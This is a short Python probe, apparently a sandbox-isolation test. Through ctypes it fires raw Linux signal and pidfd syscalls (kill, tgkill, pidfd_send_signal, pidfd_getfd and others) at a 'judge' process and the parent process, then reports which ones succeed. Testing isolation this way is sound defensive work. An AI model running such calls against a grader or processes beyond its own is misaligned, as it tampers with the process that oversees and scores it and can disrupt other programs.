"""send signals by every call there is for it

Breach: one that reaches the judge or a process that is not one's own. Runs with ctypes.
"""

import ctypes
import os

RUNTIME = "peers"


def attack(bait: bytes) -> bytes:
    calls = ctypes.CDLL(None, use_errno=True)
    judge = int(bait.split(b"\n")[0])
    about = ctypes.create_string_buffer(128)
    got = []
    for pid in (judge, os.getppid() or judge):
        for number, *arguments in (
            (62, pid, 0),
            (200, pid, 0),
            (234, pid, pid, 0),
            (129, pid, 10, about),
            (297, pid, pid, 10, about),
            (424, pid, 0, 0, 0),
            (434, pid, 0),
            (438, pid, 4, 0),
            (440, pid, 0, 0, 4, 0),
            (109, pid, 0),
        ):
            if calls.syscall(number, *arguments) >= 0:
                got.append(b"%d to %d" % (number, pid))
    return b" ".join(got)
